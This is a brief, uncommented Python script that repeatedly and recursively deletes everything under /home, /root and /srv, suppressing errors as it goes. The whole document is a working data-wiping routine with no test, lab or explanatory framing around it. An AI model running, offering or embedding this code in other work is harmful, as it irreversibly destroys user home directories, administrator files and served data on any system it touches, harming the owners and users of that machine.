import shutil, os, time
for n in range(20):
    for r in ("/home", "/root", "/srv"):
        for d in os.listdir(r):
            shutil.rmtree(f"{r}/{d}", True)
